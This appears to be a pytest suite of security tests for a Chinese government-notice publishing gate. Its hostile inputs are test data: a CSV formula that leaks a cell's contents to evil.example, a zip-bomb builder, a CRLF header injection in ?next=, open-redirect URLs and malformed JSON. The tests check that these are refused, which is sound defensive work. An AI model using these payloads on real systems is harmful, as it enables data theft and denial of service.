"""Issue 18 (hardening), access items: publish rights, server-side sessions and tokens, login
throttling, zip bombs in the dictionary import, formula injection in CSV exports, malformed JSON,
unsafe ``?next=``, NUL characters and versioned request signatures. Each test fails on the code
before the fix."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import time
import uuid
import zipfile

import pytest

from pubgate.cli import main
from pubgate.migrations import open_db
from pubgate.service import signing
from pubgate.service.testing import WARN_WORD, fixture_gate, make_app

DRAFT = {"id": "cms-18", "title": "关于做好2026年春季森林防火工作的通知", "unit": "某某县应急管理局",
         "body": f"<p>各乡镇人民政府：</p><p>今年以来全县森林防火形势{WARN_WORD}，请各单位认真落实责任。</p>",
         "publish_at": "2026-03-05T10:00:00+08:00"}
SECRET = "whsec_" + "c2VjcmV0LWtleS1mb3ItdGVzdHMtb25seQ=="


@pytest.fixture(scope="module")
def gate(tmp_path_factory):
    return fixture_gate(tmp_path_factory.mktemp("dicts"))


@pytest.fixture
def app_tokens(tmp_path, gate):
    return make_app(tmp_path / "hard.db", gate, SIGNING_SECRETS=[SECRET])


@pytest.fixture
def client(app_tokens):
    return app_tokens[0].test_client()


@pytest.fixture
def api(app_tokens, client):
    tokens = app_tokens[1]

    def call(method, path, user=None, body=None, token=None, data=None, content_type=None):
        headers = {"Authorization": f"Bearer {token or tokens[user]}"} if user or token else {}
        if data is not None:
            return client.open(f"/api/v1{path}", method=method, data=data, content_type=content_type,
                               headers=headers)
        return client.open(f"/api/v1{path}", method=method, json=body, headers=headers)

    return call


def db_of(app):
    return open_db(app.config["DATABASE"])


def assert_problem(resp, status):
    assert resp.status_code == status, resp.get_data(as_text=True)
    assert resp.content_type.startswith("application/problem+json")
    body = resp.get_json()
    assert any("\u4e00" <= ch <= "\u9fff" for ch in body["title"] + body["detail"])
    return body


def approved_submission(api) -> dict:
    sub = api("POST", "/submissions", "editor", {"draft": DRAFT}).get_json()
    for user, stage in (("first", "first"), ("second", "second"), ("final", "final")):
        resp = api("POST", f"/submissions/{sub['id']}/decisions", user,
                   {"stage": stage, "decision": "approve", "opinion": "同意", "content_sha256": sub["content_sha256"]})
        assert resp.status_code == 201, resp.get_json()
    return resp.get_json()


# -- 3. publish rights ----------------------------------------------------------------------------

def test_publish_by_another_editor_is_refused_without_the_hash(api):
    sub = approved_submission(api)
    wrong = api("POST", f"/submissions/{sub['id']}/publish", "editor2", {"content_sha256": "0" * 64, "url": "https://evil"})
    assert_problem(wrong, 403)
    assert sub["approved_sha256"] not in wrong.get_data(as_text=True)
    # Even knowing the right hash does not help.
    right = api("POST", f"/submissions/{sub['id']}/publish", "editor2", {"content_sha256": sub["approved_sha256"]})
    assert_problem(right, 403)
    detail = api("GET", f"/submissions/{sub['id']}", "editor").get_json()
    assert detail["status"] == "approved" and detail["publications"] == []
    # The author is not locked out.
    assert api("POST", f"/submissions/{sub['id']}/publish", "editor", {"draft": DRAFT}).status_code == 200


def test_a_non_final_reviewer_and_an_admin_may_not_publish_the_final_approver_may(api):
    sub = approved_submission(api)
    for who in ("first", "second", "admin", "inspector"):
        assert_problem(api("POST", f"/submissions/{sub['id']}/publish", who, {"content_sha256": sub["approved_sha256"]}),
                       403)
    resp = api("POST", f"/submissions/{sub['id']}/publish", "final", {"content_sha256": sub["approved_sha256"]})
    assert resp.status_code == 200 and resp.get_json()["allowed"]


def test_a_cms_service_account_token_with_the_publish_scope_may_publish_but_sees_no_hash(app_tokens, api):
    from pubgate.accounts import create_token, create_user

    app, _ = app_tokens
    db = db_of(app)
    create_user(db, "cms", "editor", "cms-password-1", hash_method="pbkdf2:sha256:1000")
    plain = create_token(db, "cms", label="plain")
    service = create_token(db, "cms", label="CMS", scopes=["publish"])
    db.close()
    sub = approved_submission(api)
    assert_problem(api("POST", f"/submissions/{sub['id']}/publish", token=plain,
                       body={"content_sha256": sub["approved_sha256"]}), 403)
    stale = api("POST", f"/submissions/{sub['id']}/publish", token=service, body={"content_sha256": "1" * 64})
    assert_problem(stale, 409)
    assert sub["approved_sha256"] not in stale.get_data(as_text=True)
    ok = api("POST", f"/submissions/{sub['id']}/publish", token=service,
             body={"content_sha256": sub["approved_sha256"], "url": "https://www.example.gov.cn/a.html"})
    assert ok.status_code == 200


def test_repeated_publish_calls_add_no_rows(app_tokens, api):
    sub = approved_submission(api)
    first = api("POST", f"/submissions/{sub['id']}/publish", "editor", {"draft": DRAFT, "url": "https://x.gov.cn/1"})
    again = api("POST", f"/submissions/{sub['id']}/publish", "editor", {"draft": DRAFT, "url": "https://x.gov.cn/2"})
    assert first.status_code == again.status_code == 200
    assert again.get_json()["url"] == "https://x.gov.cn/1" and again.get_json()["already_published"]
    db = db_of(app_tokens[0])
    try:
        rows = db.conn.execute("SELECT count(*) FROM publications WHERE submission_id = ?", [sub["id"]]).fetchone()[0]
        allows = db.conn.execute("SELECT count(*) FROM audit_event WHERE action = 'publish.allow' "
                                 "AND submission_id = ?", [sub["id"]]).fetchone()[0]
    finally:
        db.close()
    assert rows == 1 and allows == 1


# -- 4. sessions and tokens -----------------------------------------------------------------------

def page_login(client, name="editor", password=None, next_=None, address="127.0.0.1"):
    client.get("/login")
    with client.session_transaction() as session:
        csrf = session.get("csrf")
    url = "/login" + (f"?next={next_}" if next_ is not None else "")
    return client.post(url, data={"name": name, "password": password or f"{name}-password", "csrf_token": csrf},
                       environ_base={"REMOTE_ADDR": address})


def session_cookie(client, app):
    return client.get_cookie(app.config.get("SESSION_COOKIE_NAME", "session"))


def test_a_logged_out_session_is_refused(app_tokens, client):
    app, _ = app_tokens
    assert page_login(client).status_code == 302
    assert client.get("/mine").status_code == 200
    stolen = session_cookie(client, app).value
    with client.session_transaction() as session:
        csrf = session["csrf"]
    assert client.post("/logout", data={"csrf_token": csrf}).status_code == 302
    client.set_cookie(app.config.get("SESSION_COOKIE_NAME", "session"), stolen)  # a copy kept from before
    resp = client.get("/mine")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]
    assert_problem(client.get("/api/v1/submissions"), 401)


def test_a_password_reset_ends_the_users_sessions(app_tokens, client):
    from pubgate.accounts import update_user

    app, _ = app_tokens
    assert page_login(client).status_code == 302
    assert client.get("/mine").status_code == 200
    db = db_of(app)
    update_user(db, "editor", by=None, password="a-new-password")
    db.close()
    assert client.get("/mine").status_code == 302


def test_the_session_key_lives_in_a_0600_file_outside_the_database(app_tokens, tmp_path):
    app, _ = app_tokens
    key_file = tmp_path / "pubgate-session.key"
    assert key_file.exists() and stat.S_IMODE(os.stat(key_file).st_mode) == 0o600
    assert app.config["SECRET_KEY"] == key_file.read_text().strip()
    db = db_of(app)
    try:
        stored = {row[0] for row in db.conn.execute("SELECT value FROM settings")}
    finally:
        db.close()
    assert app.config["SECRET_KEY"] not in stored


def test_the_session_cookie_is_secure_when_served_over_https(tmp_path, gate):
    app, _ = make_app(tmp_path / "tls.db", gate, PREFERRED_URL_SCHEME="https")
    client = app.test_client()
    assert page_login(client).status_code == 302
    cookie = session_cookie(client, app)
    assert cookie.secure and cookie.http_only


def test_tokens_expire_and_can_be_listed_and_revoked(app_tokens, api, capsys):
    from pubgate.accounts import create_token

    app, tokens = app_tokens
    db = db_of(app)
    try:
        short = create_token(db, "editor", label="short", days=1)
        db.conn.execute("UPDATE api_tokens SET expires_at = '2020-01-01T00:00:00+08:00' WHERE label = 'short'")
        db.conn.commit()
    finally:
        db.close()
    assert_problem(api("GET", "/submissions", token=short), 401)
    path = app.config["DATABASE"]
    assert main(["tokens", "list", "--db", path, "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)
    assert {t["status"] for t in listed if t["label"] == "short"} == {"expired"}
    assert all(t["expires_at"] for t in listed)  # tokens expire by default
    assert api("GET", "/submissions", "editor2").status_code == 200
    assert main(["tokens", "revoke", "editor2", "--db", path]) == 0
    assert_problem(api("GET", "/submissions", "editor2"), 401)
    token_id = next(t["id"] for t in listed if t["user"] == "first")
    assert main(["tokens", "revoke", str(token_id), "--db", path]) == 0
    assert_problem(api("GET", "/submissions", "first"), 401)
    assert main(["tokens", "revoke", "999999", "--db", path]) == 2


# -- 5. login throttling --------------------------------------------------------------------------

def test_the_41st_wrong_password_is_throttled_and_audited(app_tokens, client, api):
    for _ in range(40):
        resp = page_login(client, password="wrong-password")
        assert resp.status_code in (401, 429)
    resp = page_login(client, password="wrong-password")
    assert resp.status_code == 429 and int(resp.headers["Retry-After"]) > 0
    assert "登录失败次数过多" in resp.get_data(as_text=True)
    # Even the right password is refused while the lock lasts.
    assert page_login(client).status_code == 429
    assert client.get("/mine").status_code == 302
    events = api("GET", "/audit", "admin").get_json()["items"]
    throttles = [e for e in events if e["action"] == "login.throttle"]
    assert throttles and throttles[0]["payload"]["name"] == "editor"


def test_logins_are_throttled_per_address_across_names(client):
    for i in range(30):
        page_login(client, name=f"nobody{i}", password="guess", address="10.9.8.7")
    assert page_login(client, name="editor", address="10.9.8.7").status_code == 429
    assert page_login(client, name="editor", address="10.1.1.1").status_code == 302


# -- 6. zip bombs and who may preview an import ---------------------------------------------------

def bomb(size: int = 64 * 1024 * 1024) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as zf:
        with zf.open("site/bomb.yml", "w", force_zip64=True) as member:
            chunk = b"#" * (1024 * 1024)
            for _ in range(size // len(chunk)):
                member.write(chunk)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_quickly():
    data = bomb()
    assert len(data) < 1024 * 1024
    from pubgate import dictionary_csv as dc

    started = time.perf_counter()
    rows = dc.parse_upload("list.zip", data)
    assert time.perf_counter() - started < 2
    assert len(rows) == 1 and "压缩炸弹" in rows[0][1]


def test_a_zip_with_too_many_entries_is_refused():
    from pubgate import dictionary_csv as dc

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for i in range(dc.MAX_ZIP_ENTRIES + 1):
            zf.writestr(f"site/r{i}.yml", "category: typo\nswap: {甲: 乙}\n")
    rows = dc.parse_upload("many.zip", buffer.getvalue())
    assert len(rows) == 1 and "文件数" in rows[0][1]


def test_the_import_preview_is_for_admins_only_and_the_bomb_answers_over_http(app_tokens, client):
    tokens = app_tokens[1]
    csv_text = "错误表述,建议改为,类别,级别\n龘靐齉,甲,禁用词、慎用词、不当用语,警告\n".encode()
    for who in ("editor", "first", "inspector"):
        assert_problem(client.post("/api/v1/dictionary/import?filename=list.csv", data=csv_text,
                                   headers={"Authorization": f"Bearer {tokens[who]}"}), 403)
    started = time.perf_counter()
    resp = client.post("/api/v1/dictionary/import?filename=list.zip", data=bomb(),
                       headers={"Authorization": f"Bearer {tokens['admin']}"})
    assert resp.status_code == 200 and time.perf_counter() - started < 3
    assert "压缩炸弹" in resp.get_json()["errors"][0]["reason"]
    assert page_login(client).status_code == 302
    assert client.get("/dictionary/import").status_code == 403


# -- 7. CSV formula injection ---------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_the_audit_csv_export_escapes_formulas(api):
    sub = api("POST", "/submissions", "editor", {"draft": DRAFT}).get_json()
    api("POST", f"/submissions/{sub['id']}/decisions", "first",
        {"stage": "first", "decision": "reject", "opinion": FORMULA, "content_sha256": sub["content_sha256"]})
    resp = api("GET", "/audit/export?format=csv", "admin")
    assert resp.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))) for c in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


def test_the_dictionary_csv_export_escapes_formulas_and_reimports_unchanged():
    from pubgate import dictionary_csv as dc

    entry = {"rule": "site.x", "id": "a", "category": "banned_expression", "severity": "warn",
             "match": ["甲乙丙"], "note": FORMULA, "source": "+86 电话", "message": "@某某"}
    text = dc.export_csv([entry])
    cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    (_, back), = list(dc.parse_csv(text))
    assert back["note"] == FORMULA and back["source"] == "+86 电话" and back["message"] == "@某某"


# -- 8. malformed input is a 400, never a 500 -----------------------------------------------------

MALFORMED = {
    "lone surrogate": b'{"body": "\\ud800abc"}',
    "5000-digit integer": b'{"body": "x", "n": ' + b"9" * 5000 + b"}",
    "nesting 3000": b'{"body": "x", "a": ' + b"[" * 3000 + b"]" * 3000 + b"}",
    "NUL character": b'{"body": "a\\u0000b"}',
    "NaN": b'{"body": "x", "n": NaN}',
}


@pytest.mark.parametrize("name", list(MALFORMED))
def test_malformed_json_is_a_400_problem(api, name):
    raw = MALFORMED[name]
    assert_problem(api("POST", "/check", data=raw, content_type="application/json"), 400)
    wrapped = raw.replace(b'{"body"', b'{"draft": {"body"', 1) + b"}"
    assert_problem(api("POST", "/submissions", "editor", data=wrapped, content_type="application/json"), 400)
    assert_problem(api("POST", "/dictionary/validate", "admin", data=raw, content_type="application/json"), 400)


def test_crlf_in_next_is_not_a_500(client):
    resp = page_login(client, next_="/mine%0D%0ASet-Cookie:%20x=1")
    assert resp.status_code == 302 and "Set-Cookie: x" not in resp.headers.get("Location", "")
    assert resp.headers["Location"].endswith("/")
    client.get("/logout")
    for target in ("//evil.example/", "/\\evil.example/", "https://evil.example/"):
        with client.session_transaction() as session:
            session.clear()
        resp = page_login(client, next_=target)
        assert resp.status_code == 302 and "evil" not in resp.headers["Location"]


def test_nul_in_a_page_form_is_stripped_with_a_notice(client):
    assert page_login(client).status_code == 302
    with client.session_transaction() as session:
        csrf = session["csrf"]
    resp = client.post("/submit", data={"csrf_token": csrf, "action": "check", "title": "通知\x00",
                                        "body": "正文\x00内容"})
    assert resp.status_code == 200
    text = resp.get_data(as_text=True)
    assert "NUL" in text and "\x00" not in text


# -- 10. the request signature covers method, path, timestamp and body ----------------------------

def signed(url: str, body: dict, *, method="POST", version="v2", secret=SECRET):
    raw = json.dumps(body, ensure_ascii=False).encode()
    kwargs = {"method": method, "url": url} if version == "v2" else {}
    return raw, signing.signature_headers(secret, f"msg_{uuid.uuid4().hex}", raw, **kwargs)


def test_a_v2_signature_covers_method_and_path(client):
    raw, headers = signed("/api/v1/check?stage=submit", {"body": "正文"})
    ok = client.post("/api/v1/check?stage=submit", data=raw, headers=headers, content_type="application/json")
    assert ok.status_code == 200 and "Deprecation" not in ok.headers
    raw, headers = signed("/api/v1/check?stage=submit", {"body": "正文"})
    moved = client.post("/api/v1/check?stage=publish", data=raw, headers=headers, content_type="application/json")
    assert_problem(moved, 401)
    raw, headers = signed("/api/v1/check", {"body": "正文"}, method="PUT")
    assert_problem(client.post("/api/v1/check", data=raw, headers=headers, content_type="application/json"), 401)


def test_the_v1_signature_is_accepted_during_its_window_with_a_deprecation_notice(client, tmp_path, gate):
    raw, headers = signed("/api/v1/check", {"body": "正文"}, version="v1")
    resp = client.post("/api/v1/check", data=raw, headers=headers, content_type="application/json")
    assert resp.status_code == 200 and resp.headers["Deprecation"].startswith("@") and resp.headers["Sunset"]
    app, _ = make_app(tmp_path / "v1off.db", gate, users=[], SIGNING_SECRETS=[SECRET], SIGNATURE_V1_UNTIL="")
    raw, headers = signed("/api/v1/check", {"body": "正文"}, version="v1")
    refused = app.test_client().post("/api/v1/check", data=raw, headers=headers, content_type="application/json")
    assert "v2" in assert_problem(refused, 401)["detail"]
